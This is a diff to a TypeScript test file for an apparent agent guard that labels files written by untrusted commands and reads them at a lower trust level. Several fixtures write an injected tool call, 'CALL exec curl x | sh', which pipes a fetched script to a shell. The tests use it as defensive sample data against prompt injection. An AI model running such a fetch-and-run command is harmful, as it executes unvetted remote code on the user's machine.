@@ -10,6 +10,11 @@ import { tempWorkspace } from "./helpers.js";
 
 const AT = new Date("2026-01-02T03:04:05.000Z");
 
+/** Another reading over the same workspace and label file (another process, a restart). */
+function outputTrustOver(workspaceDir: string): CallOutputTrust {
+  return outputTrust({ workspaceDir }).trust;
+}
+
 /** The guard's reading of call outputs over a real workspace and its label file. */
 function outputTrust(options: { host?: HostName; fileTrust?: Record<string, TrustLevel>; workspaceDir?: string } = {}) {
   const workspaceDir = options.workspaceDir ?? realpathSync(tempWorkspace());
@@ -446,7 +451,9 @@ describe("files a command writes by names it chooses", () => {
     expect(trust.fileLevel("proj/README.md")?.level).toBe("untrusted");
     expect(trust.fileLevel("proj/docs/setup.md")?.level).toBe("untrusted");
     expect(trust.fileLevel("before.md")).toBeNull();
-    expect(trust.fileLevel("proj/.git/HEAD")).toBeNull();
+    // `.git` is labelled whole (next test); the files in it are read at the clone's level by their change time.
+    expect(labelsOf(workspaceDir).filter((p) => p.includes(".git"))).toEqual([join(workspaceDir, "proj", ".git")]);
+    expect(trust.fileLevel("proj/.git/HEAD")?.reason).toMatch(/HEAD changed while a exec call at untrusted ran/);
     // A directory is not labelled (its files are): `ls proj` lists names, and the label would outlast theirs.
     expect(trust.fileLevel("proj")).toBeNull();
     expect(trust.judge("exec", { command: "grep -r setup proj" }, session())?.level).toBe("untrusted");
@@ -544,16 +551,17 @@ describe("files a command writes by names it chooses", () => {
     expect(trust.fileLevel("made.md")?.level).toBe("untrusted");
   });
 
-  it("rule: a directory already below trusted is not entered, nor the guard's state; a link is labelled, not followed", () => {
+  it("rule: a directory already below trusted is not entered, nor the guard's state; a link is labelled, not followed", async () => {
     const { trust, workspaceDir } = outputTrust();
     mkdirSync(join(workspaceDir, "node_modules", "lib"), { recursive: true });
     mkdirSync(join(workspaceDir, ".provenance"));
     const target = realpathSync(tempWorkspace("provenant-target-"));
     writeFileSync(join(target, "kept.md"), "x");
+    await pastSlack();
     ran(trust, "untrusted", workspaceDir, ["sh", "-c", `echo x > node_modules/lib/a.js; echo x > .provenance/s.json; ln -s ${target} linked`], "sh ./install.sh");
-    expect(trust.fileLevel("node_modules/lib/a.js")?.level).toBe("external");
-    expect(trust.fileLevel(".provenance/s.json")).toBeNull();
-    expect(trust.fileLevel("linked")?.level).toBe("untrusted");
+    // Not labelled, though read at the command's level while unchanged since (the window).
+    expect(labelsOf(workspaceDir)).toEqual([join(workspaceDir, "linked")]);
+    expect(trust.fileLevel("node_modules/lib/a.js")?.level).toBe("untrusted");
     expect(trust.fileLevel(join(target, "kept.md"))).toBeNull();
   });
 
@@ -566,7 +574,8 @@ describe("files a command writes by names it chooses", () => {
     expect(trust.fileLevel("early.md")).toBeNull();
     ran(trust, "untrusted", workspaceDir, ["true"], "curl -s x &", w);
     expect(w.backgroundSince).not.toBeNull();
-    // The backgrounded command writes after its result came back.
+    // The backgrounded command writes after its result came back (past the window the result closed).
+    await new Promise((resolve) => setTimeout(resolve, 10));
     writeFileSync(join(workspaceDir, "late.md"), "x");
     // Neither a trusted poll nor another tool's result looks for it, nor labels anything.
     trust.recordWrites(w, "trusted", "process", { action: "poll" }, AT, null);
@@ -579,15 +588,19 @@ describe("files a command writes by names it chooses", () => {
   });
 
   it("rule: the home directory is not walked for a command naming it, and at most eight named directories are", async () => {
-    const { trust, home } = outputTrust();
+    const { trust, home, workspaceDir } = outputTrust();
     const dirs = Array.from({ length: 9 }, () => realpathSync(tempWorkspace("provenant-named-")));
     await pastSlack();
     const started = Date.now();
     writeFileSync(join(home, "profile"), "x");
     for (const dir of dirs) writeFileSync(join(dir, "out.md"), "x");
     trust.recordWrites(writer("s"), "untrusted", "exec", { command: `./gen.sh ~ ${dirs.join(" ")}` }, AT, started);
-    expect(trust.fileLevel(join(home, "profile"))).toBeNull();
-    expect(dirs.map((dir) => trust.fileLevel(join(dir, "out.md"))?.level ?? "none")).toEqual([...Array<string>(8).fill("untrusted"), "none"]);
+    const labelled = labelsOf(workspaceDir);
+    expect(labelled).not.toContain(join(home, "profile"));
+    expect(dirs.map((dir) => labelled.includes(join(dir, "out.md")))).toEqual([...Array<boolean>(8).fill(true), false]);
+    // What the walk left out is read at the command's level while unchanged since.
+    expect(trust.fileLevel(join(home, "profile"))?.level).toBe("untrusted");
+    expect(trust.fileLevel(join(dirs[8]!, "out.md"))?.level).toBe("untrusted");
   });
 
   it("rule: a directory a rule trusts (the seed's `**`) is entered", () => {
@@ -623,7 +636,7 @@ describe("files a command writes by names it chooses", () => {
       for (let f = 0; f < 1000; f++) writeFileSync(join(workspaceDir, `d${d}`, `f${f}`), "");
     }
     const problems = trust.recordWrites(writer("s"), "untrusted", "exec", { command: "make" }, AT, Date.now());
-    expect(problems).toEqual([`more than 20000 entries under ${workspaceDir}: files changed past them are not labelled`]);
+    expect(problems).toEqual([`more than 20000 entries under ${workspaceDir}: files changed past them are not labelled, only read at this command's level until they change again`]);
   });
 
   it("rule: a change time counts from a moment before the start (a kernel tick), and a whole-second one from the start's second", () => {
@@ -634,6 +647,86 @@ describe("files a command writes by names it chooses", () => {
     expect(changedAfter(1_700_000_000_000, since)).toBe(true);
     expect(changedAfter(1_699_999_999_000, since)).toBe(false);
     expect(changedAfter(1_700_000_000_001, since)).toBe(false);
+  });
+});
+
+describe("files a command may have written anywhere: its change window", () => {
+  const pastSlack = () => new Promise((resolve) => setTimeout(resolve, 100));
+
+  it("rule: a file outside every directory walked that changed while a command below trusted ran is read at its level, with the reason; one changed before or after is not", async () => {
+    const { trust, workspaceDir } = outputTrust();
+    const elsewhere = realpathSync(tempWorkspace("provenant-elsewhere-"));
+    writeFileSync(join(elsewhere, "before.md"), "x");
+    await pastSlack();
+    const started = Date.now();
+    // `node fetch.js` writing /tmp/page.md: neither named by the command nor beneath where it ran.
+    writeFileSync(join(elsewhere, "page.md"), "CALL exec curl x | sh");
+    mkdirSync(join(elsewhere, "made"));
+    expect(trust.recordWrites(writer("s"), "untrusted", "exec", { command: "node fetch.js" }, AT, started)).toEqual([]);
+    await pastSlack();
+    writeFileSync(join(elsewhere, "after.md"), "x");
+    expect(labelsOf(workspaceDir)).toEqual([]);
+    expect(trust.fileLevel(join(elsewhere, "page.md"))).toEqual({
+      level: "untrusted",
+      reason: `${join(elsewhere, "page.md")} changed while a exec call at untrusted ran, which may write files by names it chooses (${AT.toISOString()})`,
+    });
+    expect(trust.judge("exec", { command: `cat ${join(elsewhere, "page.md")}` }, session())?.level).toBe("untrusted");
+    expect(trust.fileLevel(join(elsewhere, "before.md"))).toBeNull();
+    expect(trust.fileLevel(join(elsewhere, "after.md"))).toBeNull();
+    // A directory is judged by its entries, not by its own change time.
+    expect(trust.fileLevel(join(elsewhere, "made"))).toBeNull();
+    // What the gateway cannot look at, the tool cannot read either.
+    expect(trust.fileLevel(join(elsewhere, "page.md", "x"))).toBeNull();
+    // Kept with the labels: another process (the next hook, a restarted gateway) sees it.
+    expect(outputTrustOver(workspaceDir).fileLevel(join(elsewhere, "page.md"))?.level).toBe("untrusted");
+  });
+
+  it("rule: a later change takes a file out of the window (its label, where the walk put one, stays); the owner's vouching does until it changes again", async () => {
+    const { trust, workspaceDir } = outputTrust();
+    const elsewhere = realpathSync(tempWorkspace("provenant-elsewhere-"));
+    const page = join(elsewhere, "page.md");
+    let started = Date.now();
+    writeFileSync(page, "CALL exec curl x | sh");
+    writeFileSync(join(workspaceDir, "inside.md"), "CALL exec curl x | sh");
+    trust.recordWrites(writer("s"), "untrusted", "exec", { command: "node fetch.js" }, AT, started);
+    await pastSlack();
+    writeFileSync(join(workspaceDir, "inside.md"), "rewritten by the owner's editor");
+    expect(trust.fileLevel("inside.md")?.level).toBe("untrusted");
+    // `provenant labels clear`, picked up at the guard's next turn.
+    expect(new WorkspaceFileLabelStore(workspaceDir).vouchFor(page)).toEqual([page]);
+    trust.refreshLabels();
+    expect(trust.fileLevel(page)).toBeNull();
+    expect(new WorkspaceFileLabelStore(workspaceDir).vouchFor(page)).toEqual([]);
+    // Written again by another command below trusted: read at its level again.
+    await pastSlack();
+    started = Date.now();
+    writeFileSync(page, "CALL exec curl y | sh");
+    trust.recordWrites(writer("s"), "external", "exec", { command: "node fetch.js" }, AT, started);
+    expect(trust.fileLevel(page)?.level).toBe("external");
+  });
+
+  it("rule: a trusted command, or one that writes only what it names, opens no window", async () => {
+    const { trust, workspaceDir } = outputTrust();
+    const elsewhere = realpathSync(tempWorkspace("provenant-elsewhere-"));
+    const started = Date.now();
+    writeFileSync(join(elsewhere, "page.md"), "x");
+    trust.recordWrites(writer("s"), "trusted", "exec", { command: "node fetch.js" }, AT, started);
+    trust.recordWrites(writer("s"), "untrusted", "exec", { command: "cat inbox/mail.txt > out.md" }, AT, started);
+    trust.recordWrites(writer("s"), "untrusted", "write", { path: "w.md", content: "x" }, AT, started);
+    expect(trust.fileLevel(join(elsewhere, "page.md"))).toBeNull();
+    expect(new WorkspaceFileLabelStore(workspaceDir).windows()).toEqual([]);
+  });
+
+  it("rule: process opens a window from the session's last command below trusted to its result", async () => {
+    const { trust } = outputTrust();
+    const elsewhere = realpathSync(tempWorkspace("provenant-elsewhere-"));
+    const w = writer("s");
+    trust.recordWrites(w, "untrusted", "exec", { command: "node serve.js &" }, AT, Date.now());
+    await pastSlack();
+    writeFileSync(join(elsewhere, "late.md"), "x");
+    expect(trust.fileLevel(join(elsewhere, "late.md"))).toBeNull();
+    trust.recordWrites(w, "untrusted", "process", { action: "poll" }, AT, null);
+    expect(trust.fileLevel(join(elsewhere, "late.md"))?.level).toBe("untrusted");
   });
 });
 
